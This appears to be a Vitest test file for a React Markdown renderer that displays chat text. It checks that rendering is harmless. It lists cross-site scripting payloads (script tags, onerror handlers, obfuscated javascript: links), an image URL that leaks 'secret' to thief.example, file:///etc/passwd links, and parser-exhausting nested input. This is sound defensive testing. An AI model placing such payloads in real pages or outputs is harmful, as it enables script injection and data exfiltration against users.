import { cleanup, render, screen, within } from "@testing-library/react";
import { afterEach, describe, expect, test, vi } from "vitest";
import { Markdown } from "./Markdown.tsx";

afterEach(cleanup);

function show(text: string, isStreaming = false): HTMLElement {
  return render(<Markdown text={text} isStreaming={isStreaming} />).container;
}

/** Everything that a page could be made to do by what it shows. */
const ACTIVE =
  "script, iframe, object, embed, form, style, link, meta, base, svg:not(.lucide), math, video, audio, template";

function expectHarmless(page: HTMLElement): void {
  expect(page.querySelector(ACTIVE)).toBeNull();
  for (const element of page.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name, element.outerHTML).not.toMatch(/^on|^srcdoc$|^formaction$|^style$/);
      if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/);
      if (name === "src") expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp|avif|svg\+xml)[;,]|\/files\//);
    }
  }
  for (const link of page.querySelectorAll("a")) {
    expect(link.rel).toBe("noopener noreferrer nofollow");
    expect(link.target).toBe("_blank");
  }
}

describe("what it shows", () => {
  test("emphasis, lists, tasks and tables are elements", () => {
    const page = show(
      "**bold** *soft* ~~gone~~ `code`\n\n- one\n- two\n\n3. three\n\n- [x] done\n\n| a | b |\n|---|--:|\n| 1 | 2 |",
    );
    expect(page.querySelector("strong")?.textContent).toBe("bold");
    expect(page.querySelector("em")?.textContent).toBe("soft");
    expect(page.querySelector("del")?.textContent).toBe("gone");
    expect(page.querySelector("code")?.textContent).toBe("code");
    expect([...page.querySelectorAll("ul > li")].slice(0, 2).map((item) => item.textContent)).toEqual(["one", "two"]);
    expect(page.querySelector("ol")?.start).toBe(3);
    expect(screen.getByRole<HTMLInputElement>("checkbox", { name: "Done" }).checked).toBe(true);
    expect(
      within(screen.getByRole("table"))
        .getAllByRole("columnheader")
        .map((cell) => cell.textContent),
    ).toEqual(["a", "b"]);
  });

  test("headings come below those of the page, whatever level a model begins with", () => {
    const page = show("#### deep\n\n# high");
    expect([...page.querySelectorAll("h1, h2, h3, h4, h5, h6")].map(({ tagName }) => tagName)).toEqual(["H3", "H3"]);
  });

  test("named characters are shown as the characters", () => {
    expect(show("a &lt;b&gt; &amp;amp; &#x41; &#9731; &nosuch;").textContent).toBe("a <b> &amp; A ☃ &nosuch;");
  });

  test("a text that is still being written has no loose marks", () => {
    expect(show("I **bo", true).textContent).toBe("I bo");
    expect(show("see [the si", true).querySelector("a")).toBeNull();
  });

  test("code gets its colours later, and keeps every character", async () => {
    const code = 'def f(x):\n    return "<b>&amp;</b>" if x > 1 else None';
    const page = show(`\`\`\`python\n${code}\n\`\`\``);
    expect(page.querySelector("pre")?.textContent).toBe(code);
    await vi.waitFor(() => expect(page.querySelector("pre .text-reasoning")?.textContent).toBe("def"));
    expect(page.querySelector("pre")?.textContent).toBe(code);
    expect(page.querySelector("pre b")).toBeNull();
    expect(screen.getByRole("button", { name: "Copy code" })).toBeDefined();
  });
});

describe("links and images", () => {
  test("addresses of the web and of mail are links", () => {
    show("[a](https://example.com/?x=1&amp;y=2) <http://b.example> c@example.com https://d.example");
    expect(screen.getAllByRole<HTMLAnchorElement>("link").map(({ href }) => href)).toEqual([
      "https://example.com/?x=1&y=2",
      "http://b.example/",
      "mailto:c@example.com",
      "https://d.example/",
    ]);
  });

  test.each(["/api/chat", "//thief.example", "#top", "?a", "page.html"])(
    "%s would lead into this server, and is no link",
    (address) => {
      expect(show(`[words](${address})`).textContent).toBe("words");
      expect(screen.queryByRole("link")).toBeNull();
    },
  );

  test("a link tells where it leads, not only what it says", () => {
    show("[https://bank.example](https://thief.example)");
    expect(screen.getByRole("link").title).toBe("https://thief.example/");
  });

  test("an image elsewhere is a link, and is never loaded", () => {
    const page = show("![plan](https://thief.example/?said=secret) ![](//thief.example/b.png)");
    expect(page.querySelector("img")).toBeNull();
    expect(screen.getByRole<HTMLAnchorElement>("link", { name: "plan" }).href).toBe(
      "https://thief.example/?said=secret",
    );
  });

  test("an image inside of the text, or among the chat's files, is shown", () => {
    const page = show("![dot](data:image/png;base64,iVBORw0KGgo=) ![plan](/api/chat/c1/files/plan.png)");
    expect([...page.querySelectorAll("img")].map(({ alt }) => alt)).toEqual(["dot", "plan"]);
  });

  test.each([
    "/api/chat/c1/messages",
    "https://elsewhere.example/files/a.png",
    "data:text/html,<script>alert(1)</script>",
    "data:image/png,<script>".replace("image/png", "image/png+xml"),
    "file:///files/a.png",
  ])("no image is loaded from %s", (address) => {
    expect(show(`![x](<${address}>)`).querySelector("img")).toBeNull();
  });
});

describe("hostile text", () => {
  test.each([
    ["a script", "<script>alert(1)</script>"],
    ["an image with a handler", "<img src=x onerror=alert(1)>"],
    ["a handler in a link", '<a href="https://a.example" onclick="alert(1)">x</a>'],
    ["an address that is a script", "[x](javascript:alert(1))"],
    [
      "the same, written strangely",
      "[x](JaVaScRiPt:alert(1)) [x](<java\nscript:alert(1)>) [x](\u0001javascript:alert(1))",
    ],
    [
      "the same, with named characters",
      "[x](javascript&#58;alert(1)) [x](javascript&colon;alert(1)) [x](&#x6A;avascript:alert(1))",
    ],
    ["the same as an autolink", "<javascript:alert(1)> <data:text/html,x> <vbscript:x>"],
    ["the same as a reference", "[x][1] ![y][1]\n\n[1]: javascript:alert(1)"],
    ["the same as an image", "![x](javascript:alert(1))"],
    ["a document as an address", "[x](data:text/html;base64,PHNjcmlwdD4=)"],
    ["an address of this server", "[x](/api/chat/c1/stop) [x](//thief.example) [x](#top) [x](?a)"],
    ["other schemes", "[x](file:///etc/passwd) [x](blob:https://a.example/1) [x](vbscript:x) [x](chrome://settings)"],
    ["markup in the words of a link", "[<img src=x onerror=alert(1)>](https://a.example)"],
    [
      "an image inside of a link",
      "[![x](javascript:alert(1))](https://a.example) [![x](https://b.example/b.png)](javascript:x)",
    ],
    [
      "quotes in an address",
      '[x](https://a.example/"onmouseover="alert(1)) ![x](https://a.example/x"onerror="alert(1))',
    ],
    ["quotes in a title", '[x](https://a.example "\\" onclick=alert(1) x=\\"") ![x](a "onerror=alert(1)")'],
    ["markup in code", "```html\n<script>alert(1)</script>\n```\n\n`<img src=x onerror=alert(1)>`"],
    ["markup as the name of a language", '```"><img/src=x/onerror=alert(1)>\nx\n```'],
    ["a language that is a property of every object", "```constructor\nx\n```\n\n```__proto__\nx\n```"],
    ["markup in a table", "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |"],
    ["nested lists and quotes", "> - > 1. <script>alert(1)</script>\n>   - ![x](javascript:alert(1))"],
    ["half-written markup", "<img src=x onerror=alert(1) <svg onload=alert(1)"],
    ["sections and comments", "<!-- <script>alert(1)</script> --> <![CDATA[<script>]]> <?php ?>"],
    [
      "frames and styles",
      "<iframe srcdoc='<script>alert(1)</script>'></iframe><style>*{}</style><base href=//thief.example>",
    ],
  ])("%s does nothing, whole or half-written", async (_, text) => {
    for (const end of [text.length, text.length - 1, Math.floor(text.length / 2)]) {
      const page = show(text.slice(0, end), end < text.length);
      await Promise.resolve();
      expectHarmless(page);
      cleanup();
    }
  });

  test("raw HTML is shown as the text that it is", () => {
    expect(show("a <b onclick=x>c</b>\n\n<script>alert(1)</script>").textContent).toBe(
      "a <b onclick=x>c</b><script>alert(1)</script>",
    );
  });

  test("what is shown is the text that came, however deep it is nested", () => {
    expect(show(`${"> ".repeat(29)}here`).querySelectorAll("blockquote").length).toBeGreaterThan(20);
    for (const depth of [200, 10_000]) {
      cleanup();
      const page = show(`${">".repeat(depth)} there`);
      expect(page.textContent).toContain("there");
      expect(page.querySelectorAll("blockquote").length).toBe(30);
    }
  });

  test.each([
    ["quotes", ">".repeat(10_000)],
    ["quotes with spaces", "> ".repeat(10_000)],
    ["lists", "+ ".repeat(10_000)],
    ["numbered lists", "1. ".repeat(10_000)],
    ["indented lists", Array.from({ length: 300 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
    ["brackets", "[".repeat(50_000)],
    ["links in links", `${"[".repeat(10_000)}a${"](b)".repeat(10_000)}`],
    ["images in images", "![".repeat(50_000)],
    ["emphasis", `${"*".repeat(10_000)}a${"*".repeat(10_000)}`],
    ["emphasis without an end", "a_b_**c".repeat(10_000)],
    ["backticks", Array.from({ length: 300 }, (_, count) => "`".repeat(count)).join("a")],
    ["tags", "<a ".repeat(30_000)],
    ["comments", "<!--".repeat(30_000)],
    ["a wide table", `${"|a".repeat(200)}\n${"|-".repeat(200)}\n${"|b".repeat(200)}`],
    ["one long word", "x".repeat(150_000)],
    ["a very long text", "word ".repeat(100_000)],
  ])("too much of it is shown without a crash: %s", (_, text) => {
    for (const isStreaming of [false, true]) {
      const page = show(text, isStreaming);
      expect(page.textContent?.length).toBeGreaterThan(0);
      expectHarmless(page);
      cleanup();
    }
  });
});
